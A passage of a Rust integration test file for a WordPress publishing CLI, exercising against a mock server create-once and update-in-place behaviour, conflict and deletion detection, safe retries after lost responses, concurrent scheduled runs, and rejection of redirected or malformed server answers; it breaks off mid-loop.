//! Publishing content to WordPress against the stand-in: create once, update in place, send
//! nothing when nothing changed, stop at an edit made in WordPress, never create a second post
//! after a run that died, retract, and `--due` runs that overlap.

use std::process::Stdio;
use std::time::{Duration, Instant};

use serde_json::Value;

use crate::support::mockwp::{MockWp, Reply, Request};
use crate::support::{wait, TestEnv};

/// acme/blog connected to the stand-in (core mode) with two active sectors.
fn publishing_env() -> (TestEnv, MockWp) {
    let env = TestEnv::new();
    let wp = env.with_mock_blog();
    env.ok(&["sectors", "select", "acme/blog", "--industry", "healthcare", "--sectors", "dental-clinics,dermatology"]);
    env.ok(&["access", "grant", "acme/blog", "editor@acme.example"]);
    env.ok(&["access", "grant", "acme/blog", "viewer@acme.example"]);
    (env, wp)
}

/// acme/blog with one active sector, connected to the stand-in in bridge mode (the plugin's
/// namespace and the site's API key); returns the key too.
pub(crate) fn bridge_env() -> (TestEnv, MockWp, String) {
    let env = TestEnv::new();
    env.seed_basic();
    env.ok(&["site", "create", "Blog", "--account", "acme"]);
    env.ok(&["sectors", "select", "acme/blog", "--industry", "healthcare", "--sectors", "dental-clinics"]);
    let key = env.ok(&["wp", "key", "generate", "acme/blog", "--porcelain"]).trim().to_string();
    let wp = MockWp::start();
    {
        let mut site = wp.site.lock().unwrap();
        site.extra_namespaces.push("igny8/v1".into());
        site.api_key = Some(key.clone());
    }
    assert_eq!(env.json(&["wp", "connect", "acme/blog", "--url", &wp.url])["mode"], "bridge");
    (env, wp, key)
}

/// An approved content item; returns its id.
fn approved(env: &TestEnv, title: &str, extra: &[&str]) -> String {
    let mut args = vec!["content", "create", "acme/blog", "--sector", "dental-clinics", "--title", title];
    args.extend(extra);
    let id = env.json(&args)["id"].as_i64().unwrap().to_string();
    env.ok(&["content", "review", &id]);
    env.ok(&["content", "approve", &id]);
    id
}

fn writes(wp: &MockWp) -> Vec<Request> {
    wp.requests().into_iter().filter(Request::is_write).collect()
}

fn creates(wp: &MockWp) -> usize {
    writes(wp).iter().filter(|r| r.method == "POST" && r.path.ends_with("/wp/v2/posts")).count()
}

fn post(wp: &MockWp, id: i64) -> Value {
    wp.site.lock().unwrap().posts.iter().find(|p| p["id"] == id).cloned().unwrap()
}

#[test]
fn publishing_creates_once_updates_in_place_and_sends_nothing_unchanged() {
    let (env, wp) = publishing_env();
    let id =
        approved(&env, "Brushing 101", &["--category", "category-02", "--category", "brand-new", "--tag", "tag-01"]);
    wp.clear_log();
    let out = env.json(&["wp", "publish", &id]);
    assert_eq!((out["action"].as_str(), out["wp_status"].as_str()), (Some("created"), Some("publish")), "{out}");
    let post_id = out["external_id"].as_i64().unwrap();
    let p = post(&wp, post_id);
    assert_eq!((p["slug"].as_str(), p["title"]["raw"].as_str()), (Some("brushing-101"), Some("Brushing 101")));
    // An existing category by its id, a missing one created; the tag found.
    let cats: Vec<i64> = p["categories"].as_array().unwrap().iter().map(|c| c.as_i64().unwrap()).collect();
    assert_eq!(cats[0], 3);
    assert!(cats[1] >= 1000, "the new category's id: {cats:?}");
    assert_eq!(p["tags"], serde_json::json!([22]));
    let shown = env.json(&["content", "show", &id]);
    assert_eq!(shown["publish_status"], "published");
    assert_eq!(shown["publishing"]["status"], "published");
    assert_eq!(shown["publishing"]["external_id"], post_id);

    // Unchanged: not one request that writes (nor any at all).
    wp.clear_log();
    assert_eq!(env.json(&["wp", "publish", &id])["action"], "unchanged");
    assert!(wp.requests().is_empty(), "{:?}", wp.requests());

    // Changed: the same post, updated.
    env.ok(&["content", "update", &id, "--title", "Brushing, explained"]);
    let out = env.json(&["wp", "publish", &id]);
    assert_eq!((out["action"].as_str(), out["external_id"].as_i64()), (Some("updated"), Some(post_id)));
    assert_eq!(post(&wp, post_id)["title"]["raw"], "Brushing, explained");
    assert_eq!(creates(&wp), 0, "updated, not created again");

    // Someone edits the post in WordPress: the next change stops there, unless forced.
    wp.edit_post(post_id, "Edited in WordPress", "2031-12-31T00:00:00");
    env.ok(&["content", "update", &id, "--excerpt", "Twice a day"]);
    let e = env.fails(&["wp", "publish", &id], 6);
    assert_eq!(e["code"], "remote_changed");
    assert!(e["hint"].as_str().unwrap().contains("--force"));
    assert_eq!(post(&wp, post_id)["title"]["rendered"], "Edited in WordPress", "WordPress's edit is kept");
    assert_eq!(env.json(&["wp", "publish", &id, "--force"])["action"], "updated");
    assert_eq!(post(&wp, post_id)["excerpt"]["raw"], "Twice a day");

    // A time to come: `future`, with date_gmt, and the item shows as scheduled.
    env.ok(&["content", "update", &id, "--title", "Later"]);
    let out = env.json(&["wp", "publish", &id, "--at", "2032-01-01T08:00:00Z"]);
    assert_eq!(out["wp_status"], "future");
    assert_eq!(post(&wp, post_id)["date_gmt"], "2032-01-01T08:00:00");
    assert_eq!(env.json(&["content", "show", &id])["publish_status"], "scheduled");

    // Retract: into WordPress's trash; publishing again needs --force.
    let out = env.json(&["content", "retract", &id]);
    assert_eq!(out["action"], "retracted");
    assert_eq!(post(&wp, post_id)["status"], "trash");
    assert_eq!(env.json(&["content", "list", "--publish-status", "retracted"]).as_array().unwrap().len(), 1);
    assert_eq!(env.fails(&["wp", "publish", &id], 6)["code"], "remote_deleted");
    // The audit log has every publish.
    let audit = env.json(&["audit", "list", "--target", &format!("content:{id}")]);
    let actions: Vec<&str> = audit.as_array().unwrap().iter().map(|a| a["action"].as_str().unwrap()).collect();
    assert!(actions.contains(&"wp.publish") && actions.contains(&"content.retract"), "{actions:?}");
}

#[test]
fn a_post_deleted_in_wordpress_is_retracted_not_recreated() {
    let (env, wp) = publishing_env();
    let id = approved(&env, "Gone soon", &[]);
    let post_id = env.json(&["wp", "publish", &id])["external_id"].as_i64().unwrap();
    wp.delete_post(post_id);
    env.ok(&["content", "update", &id, "--title", "Gone soon, changed"]);
    wp.clear_log();
    let e = env.fails(&["wp", "publish", &id], 6);
    assert_eq!(e["code"], "remote_deleted");
    assert_eq!(creates(&wp), 0, "not silently recreated");
    let shown = env.json(&["content", "show", &id]);
    assert_eq!(
        (shown["publish_status"].as_str(), shown["publishing"]["status"].as_str()),
        (Some("retracted"), Some("retracted"))
    );
    // On purpose: a new post.
    let out = env.json(&["wp", "publish", &id, "--force"]);
    assert_eq!(out["action"], "created");
    assert_ne!(out["external_id"].as_i64(), Some(post_id));
}

#[test]
fn a_run_killed_after_its_post_reached_wordpress_is_finished_not_duplicated() {
    let (env, wp) = publishing_env();
    let id = approved(&env, "Exactly once", &[]);
    // WordPress creates the post, then the answer never comes; the run is killed meanwhile.
    wp.set_fault(|r, _| (r.method == "POST" && r.path.ends_with("/wp/v2/posts")).then_some(Reply::Swallow));
    let mut child = env.command(&["wp", "publish", &id]).stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap();
    // The kill lands once WordPress has made the post, while the run waits for the answer.
    wait::until("the post made in WordPress", || {
        wp.site.lock().unwrap().posts.iter().any(|p| p["slug"] == "exactly-once")
    });
    child.kill().unwrap();
    child.wait().unwrap();
    wp.clear_fault();
    let shown = env.json(&["content", "show", &id]);
    assert_eq!(shown["publishing"]["status"], "pending", "{shown}");
    assert!(shown["publishing"]["external_id"].is_null());
    // The next run looks before it creates: it finds the post by its slug and finishes.
    wp.clear_log();
    let out = env.json(&["wp", "publish", &id]);
    assert_eq!(out["action"], "updated", "{out}");
    assert_eq!(creates(&wp), 0, "{:?}", writes(&wp));
    let found = wp.requests().iter().any(|r| r.query.get("slug").map(String::as_str) == Some("exactly-once"));
    assert!(found, "looked the post up by slug");
    let posts = wp.site.lock().unwrap().posts.iter().filter(|p| p["slug"] == "exactly-once").count();
    assert_eq!(posts, 1);
}

#[test]
fn remote_failures_are_recorded_and_reported_with_their_codes() {
    let (env, wp) = publishing_env();
    let id = approved(&env, "Troubled", &[]);
    for (status, code) in [
        (401, "wp_credentials_refused"),
        (403, "wp_credentials_refused"),
        (500, "wp_server_error"),
        (409, "wp_http_error"),
    ] {
        wp.set_fault(move |r, _| {
            (r.method == "POST").then(|| {
                let body = serde_json::json!({"code": "x", "message": "no", "data": {"status": status}});
                Reply::Json(status, body, vec![])
            })
        });
        wp.clear_log();
        let e = env.fails(&["wp", "publish", &id], 8);
        assert_eq!(e["code"], code, "{status}");
        // A create is never retried: it may have happened.
        assert_eq!(creates(&wp), 1, "{status}: {:?}", writes(&wp));
        let shown = env.json(&["content", "show", &id]);
        assert_eq!(
            (shown["publish_status"].as_str(), shown["publishing"]["status"].as_str()),
            (Some("failed"), Some("failed"))
        );
        assert!(shown["publishing"]["error"].as_str().unwrap().contains(code));
    }
    wp.clear_fault();
    // After a failed create, the next run looks first, finds nothing, and creates.
    wp.clear_log();
    assert_eq!(env.json(&["wp", "publish", &id])["action"], "created");
    assert_eq!(creates(&wp), 1);
    // term_exists: a term another writer made between our look-up and our create.
    env.ok(&["content", "update", &id, "--category", "category-05"]);
    wp.set_fault(|r, _| {
        (r.method == "GET" && r.path.ends_with("/categories") && r.query.contains_key("slug"))
            .then(|| Reply::Json(200, serde_json::json!([]), vec![]))
    });
    let out = env.json(&["wp", "publish", &id]);
    assert_eq!(post(&wp, out["external_id"].as_i64().unwrap())["categories"], serde_json::json!([6]));
}

#[test]
fn who_may_publish_and_what_a_dry_run_sends() {
    let (env, wp) = publishing_env();
    let id = approved(&env, "Permissions", &[]);
    assert_eq!(env.fails(&["wp", "publish", &id, "--as", "viewer@acme.example"], 5)["code"], "permission_denied");
    assert_eq!(env.fails(&["wp", "publish", &id, "--as", "editor@globex.example"], 3)["code"], "content_not_found");
    wp.clear_log();
    let before = env.dump();
    let out = env.json(&["wp", "publish", &id, "--dry-run"]);
    assert_eq!(out["action"], "created");
    assert!(wp.requests().is_empty(), "a dry run sends nothing");
    assert_eq!(env.dump(), before, "and writes nothing");
    assert_eq!(env.json(&["wp", "publish", &id, "--as", "editor@acme.example"])["action"], "created");
    // An anonymous connection can only read.
    env.ok(&["site", "create", "Open", "--account", "acme"]);
    env.ok(&["sectors", "select", "acme/open", "--industry", "healthcare", "--sectors", "dental-clinics"]);
    env.ok(&["wp", "connect", "acme/open", "--url", &wp.url]);
    let other = env.json(&["content", "create", "acme/open", "--sector", "dental-clinics", "--title", "Nope"]);
    let e = env.fails(&["wp", "publish", &other["id"].as_i64().unwrap().to_string()], 5);
    assert_eq!(e["code"], "read_only_integration");
    assert!(e["hint"].as_str().unwrap().contains("--app-password"));
}

#[test]
fn overlapping_due_runs_publish_each_item_once() {
    let (env, wp) = publishing_env();
    let ids: Vec<String> = (0..6).map(|n| approved(&env, &format!("Due {n}"), &[])).collect();
    for id in &ids {
        env.ok(&["content", "schedule", id, "--at", "2020-01-01T00:00:00Z"]);
    }
    let later = approved(&env, "Not yet", &[]);
    env.ok(&["content", "schedule", &later, "--at", "2099-01-01T00:00:00Z"]);
    // The two runs overlap: no create is answered until six are waiting, more than one run
    // sends at once (three).
    let log = wp.log.clone();
    wp.set_gate(move |r| {
        if is_create(r) {
            let waiting = || log.lock().unwrap().iter().filter(|r| is_create(r)).count() >= 6;
            wait::at_most(waiting);
        }
    });
    wp.clear_log();
    let runs: Vec<_> = (0..2)
        .map(|_| {
            env.command(&["wp", "publish", "--due", "--concurrency", "3", "--format", "jsonl"])
                .stdout(Stdio::piped())
                .stderr(Stdio::piped())
                .spawn()
                .unwrap()
        })
        .collect();
    let mut published = 0;
    for run in runs {
        let out = run.wait_with_output().unwrap();
        assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
        for line in String::from_utf8(out.stdout).unwrap().lines() {
            let item: Value = serde_json::from_str(line).unwrap();
            if item["action"] == "created" {
                published += 1;
            }
        }
    }
    assert_eq!(published, 6, "each item published by exactly one run");
    assert_eq!(creates(&wp), 6, "{:?}", writes(&wp).len());
    assert_eq!(env.json(&["content", "list", "--publish-status", "published"]).as_array().unwrap().len(), 6);
    assert_eq!(env.json(&["content", "show", &later])["publish_status"], "scheduled");
    wp.clear_gate();
    // A failing item makes the run exit 7, with one line per item.
    let failing = approved(&env, "Fails", &[]);
    env.ok(&["content", "schedule", &failing, "--at", "2020-01-01T00:00:00Z"]);
    wp.set_fault(|r, _| (r.method == "POST").then(|| Reply::Json(500, serde_json::json!({}), vec![])));
    let out = env.run(&["wp", "publish", "--due", "--format", "jsonl"]);
    assert_eq!(out.code, 7, "{}", out.stderr);
    assert_eq!(out.stdout.lines().count(), 1);
}

/// A run's writes reach the database however other commands come and go meanwhile: one that
/// opens and closes it while the run sends, one that is still at work when the run ends. On
/// SQLite the run's workers each open the file; none of those opens may drop what tells other
/// processes this one still uses the write-ahead log, or the command that closes last deletes
/// the log under the run, and what the run then records is lost although it reported success.
#[test]
fn a_runs_writes_survive_other_commands_coming_and_going() {
    use std::sync::atomic::{AtomicBool, Ordering};
    use std::sync::Arc;
    let (env, wp) = publishing_env();
    let ids: Vec<String> = (0..2).map(|n| approved(&env, &format!("Meanwhile {n}"), &[])).collect();
    for id in &ids {
        env.ok(&["content", "schedule", id, "--at", "2020-01-01T00:00:00Z"]);
    }
    // Creates wait until `send` is set; once the run has sent them, reads (the sync's) wait
    // until `read` is.
    let (send, read, reads_wait) =
        (Arc::new(AtomicBool::new(false)), Arc::new(AtomicBool::new(false)), Arc::new(AtomicBool::new(false)));
    let (s, r, w) = (send.clone(), read.clone(), reads_wait.clone());
    wp.set_gate(move |req| {
        if is_create(req) {
            wait::at_most(|| s.load(Ordering::SeqCst));
        } else if req.method == "GET" && w.load(Ordering::SeqCst) {
            wait::at_most(|| r.load(Ordering::SeqCst));
        }
    });
    wp.clear_log();
    let run = env
        .command(&["wp", "publish", "--due", "--concurrency", "2", "--format", "jsonl"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    wait::until("both creates sent", || creates(&wp) == 2);
    // While the run sends, a command comes and goes...
    assert_eq!(env.json(&["content", "list", "--publish-status", "publishing"]).as_array().unwrap().len(), 2);
    // ...and a sync starts that is still at work when the run ends.
    reads_wait.store(true, Ordering::SeqCst);
    let sync = env.command(&["wp", "sync", "acme/blog"]).stdout(Stdio::null()).stderr(Stdio::piped()).spawn().unwrap();
    wait::until("the sync asks WordPress", || wp.requests().iter().any(|r| r.method == "GET"));
    send.store(true, Ordering::SeqCst);
    let out = run.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let lines: Vec<Value> =
        String::from_utf8(out.stdout).unwrap().lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert!(lines.len() == 2 && lines.iter().all(|l| l["action"] == "created"), "{lines:?}");
    let recorded = || {
        let published = env.json(&["content", "list", "--publish-status", "published"]).as_array().unwrap().len();
        let audit = env.json(&["audit", "list", "--target", "site:acme/blog"]);
        let audited = audit.as_array().unwrap().iter().filter(|a| a["action"] == "wp.publish").count();
        (published, audited)
    };
    assert_eq!(recorded(), (2, 2), "what the run reported is recorded, with its audit rows");
    read.store(true, Ordering::SeqCst);
    let sync = sync.wait_with_output().unwrap();
    assert_eq!(sync.status.code(), Some(0), "{}", String::from_utf8_lossy(&sync.stderr));
    assert_eq!(recorded(), (2, 2), "and stays so once the last command has closed the database");
    wp.clear_gate();
}

#[test]
fn bridge_mode_publishes_through_the_plugin_route() {
    let (env, wp, key) = bridge_env();
    let id = approved(&env, "Through the bridge", &["--category", "bridge-news", "--tag", "tag-02"]);
    wp.clear_log();
    let out = env.json(&["wp", "publish", &id]);
    assert_eq!(out["action"], "created", "{out}");
    let sent = writes(&wp);
    assert_eq!(sent.len(), 1, "{sent:?}");
    assert_eq!(sent[0].path, "/wp-json/igny8/v1/publish");
    assert_eq!(sent[0].headers["x-igny8-api-key"], key);
    assert!(!sent[0].headers.contains_key("authorization"), "no Application Password in bridge mode");
    let body = sent[0].body.clone().unwrap();
    assert_eq!(body["content_id"].to_string(), id);
    assert_eq!(body["categories"], serde_json::json!(["bridge-news"]));
    let p = post(&wp, out["external_id"].as_i64().unwrap());
    assert_eq!((p["slug"].as_str(), p["status"].as_str()), (Some("through-the-bridge"), Some("publish")));
    assert_eq!(p["tags"], serde_json::json!([23]));
    // Unchanged: nothing; changed: the same post, by its id.
    wp.clear_log();
    assert_eq!(env.json(&["wp", "publish", &id])["action"], "unchanged");
    assert!(writes(&wp).is_empty());
    env.ok(&["content", "update", &id, "--title", "Through the bridge, again"]);
    let again = env.json(&["wp", "publish", &id]);
    assert_eq!(
        (again["action"].as_str(), again["external_id"].as_i64()),
        (Some("updated"), out["external_id"].as_i64())
    );
    assert_eq!(writes(&wp)[0].body.as_ref().unwrap()["post_id"], out["external_id"]);
}

#[test]
fn sync_brings_publishing_records_up_to_what_wordpress_shows() {
    let (env, wp) = publishing_env();
    let id = approved(&env, "Synced back", &[]);
    let post_id = env.json(&["wp", "publish", &id])["external_id"].as_i64().unwrap();
    // Edited in WordPress: the sync sees it; the record keeps our last write for the conflict check.
    wp.edit_post(post_id, "Edited there", "2031-12-31T00:00:00");
    let r = env.json(&["wp", "sync", "acme/blog", "--content"]);
    assert_eq!(r["publishing_records_refreshed"], 1, "{r}");
    let shown = env.json(&["content", "show", &id]);
    assert_eq!(shown["publishing"]["remote_modified_gmt"], "2031-12-31T00:00:00");
    assert_ne!(shown["publishing"]["modified_gmt"], shown["publishing"]["remote_modified_gmt"]);
    // Taken down in WordPress: a full sync marks it retracted.
    wp.delete_post(post_id);
    env.ok(&["wp", "sync", "acme/blog", "--content", "--full"]);
    assert_eq!(env.json(&["content", "list", "--publish-status", "retracted"]).as_array().unwrap().len(), 1);
    assert_eq!(env.json(&["content", "show", &id])["publishing"]["status"], "retracted");
}

#[test]
fn a_write_is_never_redirected_and_credentials_stay_with_the_site() {
    let (env, wp) = publishing_env();
    let other = MockWp::start();
    let id = approved(&env, "Redirected", &[]);
    let elsewhere = format!("{}/wp-json/wp/v2/posts", other.url);
    wp.set_fault(move |r, _| {
        (r.method == "POST")
            .then(|| Reply::Json(307, serde_json::json!({}), vec![("Location".into(), elsewhere.clone())]))
    });
    let e = env.fails(&["wp", "publish", &id], 8);
    assert_eq!(e["code"], "wp_bad_redirect");
    assert!(other.requests().is_empty(), "nothing went to the other origin: {:?}", other.requests());
    assert_eq!(creates(&wp), 1, "one attempt, not replayed");
    assert_eq!(env.json(&["content", "show", &id])["publishing"]["status"], "failed");
}

#[test]
fn terms_are_resolved_per_wordpress_in_a_run_over_many_sites() {
    let (env, wp) = publishing_env();
    // A second site on another WordPress, where the same category slug has another id.
    env.ok(&["site", "create", "Shop", "--account", "acme"]);
    env.ok(&["sectors", "select", "acme/shop", "--industry", "healthcare", "--sectors", "dental-clinics"]);
    let other = MockWp::start();
    other
        .site
        .lock()
        .unwrap()
        .categories
        .push(serde_json::json!({"id": 777, "slug": "shared-cat", "name": "Shared", "taxonomy": "category"}));
    crate::support::mockwp::connect_core(&env, "acme/shop", &other);
    let here = approved(&env, "On the blog", &["--category", "shared-cat"]);
    let there = env.json(&[
        "content",
        "create",
        "acme/shop",
        "--sector",
        "dental-clinics",
        "--title",
        "On the shop",
        "--category",
        "shared-cat",
    ]);
    let there = there["id"].as_i64().unwrap().to_string();
    env.ok(&["content", "review", &there]);
    env.ok(&["content", "approve", &there]);
    let out = env.ok(&["wp", "publish", &here, &there, "--concurrency", "1", "--format", "jsonl"]);
    let items: Vec<Value> = out.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let blog_cat = post(&wp, items[0]["external_id"].as_i64().unwrap())["categories"][0].as_i64().unwrap();
    assert!(blog_cat >= 1000, "made on the blog's WordPress: {blog_cat}");
    assert_eq!(post(&other, items[1]["external_id"].as_i64().unwrap())["categories"], serde_json::json!([777]));
}

fn is_create(r: &Request) -> bool {
    r.method == "POST" && r.path.ends_with("/wp/v2/posts")
}

/// The one request that fails, the first create: WordPress never made the post.
fn first_create_fails(wp: &MockWp) {
    let failed = std::sync::atomic::AtomicBool::new(false);
    wp.set_fault(move |r, _| {
        (is_create(r) && !failed.swap(true, std::sync::atomic::Ordering::SeqCst))
            .then(|| Reply::Json(503, serde_json::json!({"code": "x", "message": "down"}), vec![]))
    });
}

#[test]
fn a_retry_never_adopts_a_post_it_cannot_prove_it_made() {
    let (env, wp) = publishing_env();
    let id = approved(&env, "Taken slug", &[]);
    first_create_fails(&wp);
    assert_eq!(env.fails(&["wp", "publish", &id], 8)["code"], "wp_server_error");
    wp.clear_fault();
    // Meanwhile another WordPress user wrote a post with the item's slug.
    wp.add_post_by(555, "taken-slug", 2, "<p>Someone else's</p>");
    let before = post(&wp, 555);
    wp.clear_log();
    let e = env.fails(&["wp", "publish", &id], 6);
    assert_eq!(e["code"], "remote_conflict", "{e}");
    let message = e["message"].as_str().unwrap();
    assert!(message.contains("post 555") && message.contains(&format!("{}/taken-slug/", wp.url)), "{message}");
    assert!(writes(&wp).is_empty(), "the stranger's post is left untouched: {:?}", writes(&wp));
    assert_eq!(post(&wp, 555), before);
    let shown = env.json(&["content", "show", &id]);
    assert!(shown["publishing"]["external_id"].is_null(), "{shown}");

    // The connected user's own post without this item's token, or a stranger's with the token
    // copied from the published HTML: neither is adopted.
    let token = |wp: &MockWp| -> Option<String> {
        wp.requests().iter().filter(|r| is_create(r)).find_map(|r| {
            let raw = r.body.as_ref()?["content"].as_str()?.to_string();
            let at = raw.rfind("<!-- sitectl:origin ")? + 20;
            Some(raw[at..at + 32].to_string())
        })
    };
    wp.site.lock().unwrap().posts.retain(|p| p["id"] != 555);
    // Learn the token the way an attacker would: from what sitectl sent (its post's HTML).
    first_create_fails(&wp);
    wp.clear_log();
    env.fails(&["wp", "publish", &id], 8);
    wp.clear_fault();
    let t = token(&wp).expect("the create carried the marker");
    for (author, raw, why) in [
        (1, "<p>Written by hand</p>".to_string(), "creation token"),
        (2, format!("<p>Copied<!-- sitectl:origin {t} --></p>"), "another WordPress user"),
    ] {
        wp.add_post_by(556, "taken-slug", author, &raw);
        let before = post(&wp, 556);
        wp.clear_log();
        let e = env.fails(&["wp", "publish", &id], 6);
        assert_eq!(e["code"], "remote_conflict");
        assert!(e["message"].as_str().unwrap().contains(why), "{e}");
        assert!(writes(&wp).is_empty());
        assert_eq!(post(&wp, 556), before);
        wp.site.lock().unwrap().posts.retain(|p| p["id"] != 556);
    }

    // Several posts with the slug, or a lookup answering another slug: never adopted.
    wp.add_post_by(557, "taken-slug", 1, &format!("<p>a<!-- sitectl:origin {t} --></p>"));
    wp.add_post_by(558, "taken-slug", 1, &format!("<p>b<!-- sitectl:origin {t} --></p>"));
    assert!(env.fails(&["wp", "publish", &id], 6)["message"].as_str().unwrap().contains("several"));
    wp.site.lock().unwrap().posts.retain(|p| p["id"] != 558);
    let url = wp.url.clone();
    wp.set_fault(move |r, _| {
        (r.method == "GET" && r.query.get("slug").is_some_and(|s| s == "taken-slug")).then(|| {
            let p = serde_json::json!({"id": 557, "slug": "taken-slug-2", "status": "publish", "author": 1,
                "link": format!("{url}/taken-slug-2/"), "content": {"raw": format!("x<!-- sitectl:origin {t} -->")}});
            Reply::Json(200, serde_json::json!([p]), vec![("X-WP-Total".into(), "1".into())])
        })
    });
    assert!(env.fails(&["wp", "publish", &id], 6)["message"].as_str().unwrap().contains("slug is not the item's"));
    wp.clear_fault();
    wp.site.lock().unwrap().posts.retain(|p| p["id"] != 557);

    // --force leaves the stranger's post alone and makes a new one.
    wp.add_post_by(559, "taken-slug", 2, "<p>Someone else's</p>");
    let before = post(&wp, 559);
    let out = env.json(&["wp", "publish", &id, "--force"]);
    assert_eq!(out["action"], "created", "{out}");
    assert_ne!(out["external_id"], 559);
    assert_eq!(post(&wp, 559), before);
}

#[test]
fn a_retry_adopts_the_post_its_lost_create_made_and_then_sends_nothing() {
    let (env, wp) = publishing_env();
    let id = approved(&env, "Lost answer", &[]);
    // WordPress makes the post; the answer is lost on the way back.
    wp.set_fault(|r, _| is_create(r).then_some(Reply::Lost(503)));
    env.fails(&["wp", "publish", &id], 8);
    wp.clear_fault();
    let made: Vec<i64> = wp
        .site
        .lock()
        .unwrap()
        .posts
        .iter()
        .filter(|p| p["slug"] == "lost-answer")
        .map(|p| p["id"].as_i64().unwrap())
        .collect();
    assert_eq!(made.len(), 1);
    wp.clear_log();
    let out = env.json(&["wp", "publish", &id]);
    assert_eq!((out["action"].as_str(), out["external_id"].as_i64()), (Some("updated"), Some(made[0])), "{out}");
    // The token is not part of what "unchanged" compares: nothing is sent now.
    assert_eq!(creates(&wp), 0, "adopted, not created again");
    wp.clear_log();
    assert_eq!(env.json(&["wp", "publish", &id])["action"], "unchanged");
    assert!(wp.requests().is_empty());
    // Readers never see the token: it sits inside the last paragraph's markup, a comment.
    let raw = post(&wp, made[0])["content"]["raw"].as_str().unwrap().to_string();
    assert!(raw.contains("<!-- sitectl:origin "), "{raw}");

    // Lost again, and the post trashed in WordPress meanwhile: taken down there, not put back.
    let again = approved(&env, "Lost and trashed", &[]);
    wp.set_fault(|r, _| is_create(r).then_some(Reply::Lost(503)));
    env.fails(&["wp", "publish", &again], 8);
    wp.clear_fault();
    let made = wp.site.lock().unwrap().posts.iter().find(|p| p["slug"] == "lost-and-trashed").unwrap()["id"].clone();
    wp.site.lock().unwrap().posts.iter_mut().find(|p| p["id"] == made).unwrap()["status"] = "trash".into();
    wp.clear_log();
    assert_eq!(env.fails(&["wp", "publish", &again], 6)["code"], "remote_deleted");
    assert!(writes(&wp).is_empty());
    assert_eq!(env.json(&["content", "show", &again])["publish_status"], "retracted");
    let out = env.json(&["wp", "publish", &again, "--force"]);
    assert_eq!((out["action"].as_str(), &out["external_id"]), (Some("updated"), &made), "{out}");
}

#[test]
fn bridge_mode_adopts_by_the_plugins_meta_and_refuses_a_stranger() {
    let (env, wp, _) = bridge_env();
    let bridge = |r: &Request| r.method == "POST" && r.path.ends_with("/igny8/v1/publish");
    // A stranger's post with the slug, no meta: a conflict, untouched.
    let id = approved(&env, "Bridged", &[]);
    wp.set_fault(move |r, _| bridge(r).then(|| Reply::Json(503, serde_json::json!({}), vec![])));
    env.fails(&["wp", "publish", &id], 8);
    wp.clear_fault();
    wp.add_post_by(600, "bridged", 1, "<p>theirs</p>");
    let before = post(&wp, 600);
    wp.clear_log();
    assert_eq!(env.fails(&["wp", "publish", &id], 6)["code"], "remote_conflict");
    assert!(writes(&wp).is_empty());
    assert_eq!(post(&wp, 600), before);
    // The plugin made the post, the answer was lost: adopted by its meta.
    let other = approved(&env, "Bridged twice", &[]);
    wp.set_fault(move |r, _| bridge(r).then_some(Reply::Lost(503)));
    env.fails(&["wp", "publish", &other], 8);
    wp.clear_fault();
    let made = wp.site.lock().unwrap().posts.iter().find(|p| p["slug"] == "bridged-twice").unwrap()["id"].clone();
    let out = env.json(&["wp", "publish", &other]);
    assert_eq!((out["action"].as_str(), &out["external_id"]), (Some("updated"), &made), "{out}");
}

/// Every answer is checked against what was asked; a wrong one is `wp_bad_response` and no
/// record takes anything from it.
#[test]
fn answers_about_another_post_are_refused_and_change_no_record() {
    let (env, wp) = publishing_env();
    let id = approved(&env, "Checked", &[]);
    let first = env.json(&["wp", "publish", &id]);
    let post_id = first["external_id"].as_i64().unwrap();
    let record = |env: &TestEnv| {
        let p = env.json(&["content", "show", &id])["publishing"].clone();
        (p["external_id"].clone(), p["external_url"].clone(), p["modified_gmt"].clone())
    };
    let kept = record(&env);
    env.ok(&["content", "update", &id, "--title", "Checked again"]);
    let url = wp.url.clone();
    // An update of post N answered with post N+1; the post read before it answered as another.
    for (what, method, suffix) in
        [("update", "POST", format!("/posts/{post_id}")), ("read", "GET", format!("/posts/{post_id}"))]
    {
        let (u, suffix2) = (url.clone(), suffix.clone());
        wp.set_fault(move |r, _| {
            (r.method == method && r.path.ends_with(&suffix2)).then(|| {
                let p = serde_json::json!({"id": post_id + 1, "status": "publish", "link": format!("{u}/elsewhere/"),
                    "modified_gmt": "2031-06-01T00:00:00"});
                Reply::Json(200, p, vec![])
            })
        });
        let e = env.fails(&["wp", "publish", &id], 8);
        assert_eq!(e["code"], "wp_bad_response", "{what}: {e}");
        assert_eq!(record(&env), kept, "{what}");
        wp.clear_fault();
    }
    // A retraction answered with another post: the record still names its post, not retracted.
    let u = url.clone();
    wp.set_fault(move |r, _| {
        (r.method == "DELETE").then(|| {
            Reply::Json(200, serde_json::json!({"id": 1, "status": "trash", "link": format!("{u}/hello/")}), vec![])
        })
    });
    assert_eq!(env.fails(&["content", "retract", &id], 8)["code"], "wp_bad_response");
    assert_ne!(env.json(&["content", "show", &id])["publishing"]["status"], "retracted");
    // A retraction that did not trash anything.
    wp.set_fault(move |r, _| {
        (r.method == "DELETE")
            .then(|| Reply::Json(200, serde_json::json!({"id": post_id, "status": "publish"}), vec![]))
    });
    assert_eq!(env.fails(&["content", "retract", &id], 8)["code"], "wp_bad_response");
    wp.clear_fault();

    // A create answered without an id (or with garbage): nothing recorded; the next run looks.
    let other = approved(&env, "No id", &[]);
    for body in [serde_json::json!({}), serde_json::json!({"id": -3}), serde_json::json!({"id": 9, "link": [1]})] {
        let b = body.clone();
        wp.set_fault(move |r, _| is_create(r).then(|| Reply::Json(201, b.clone(), vec![])));
        assert_eq!(env.fails(&["wp", "publish", &other], 8)["code"], "wp_bad_response", "{body}");
        assert!(env.json(&["content", "show", &other])["publishing"]["external_id"].is_null());
    }
    // A lookup answer that is not a list of posts, or that is huge: refused, nothing written.
    for reply in [
        Reply::Json(200, serde_json::json!({"id": 1}), vec![]),
        Reply::Json(200, serde_json::json!([{"no": "id"}]), vec![]),
        Reply::Json(200, serde_json::json!([]), vec![("X-WP-Total".into(), "4".into())]),
        Reply::Raw(200, "application/json".into(), format!("[{}]", "0,".repeat(3_000_000) + "0"), vec![]),
    ] {
        wp.set_fault(move |r, _| (r.method == "GET" && r.query.contains_key("slug")).then(|| reply.clone()));
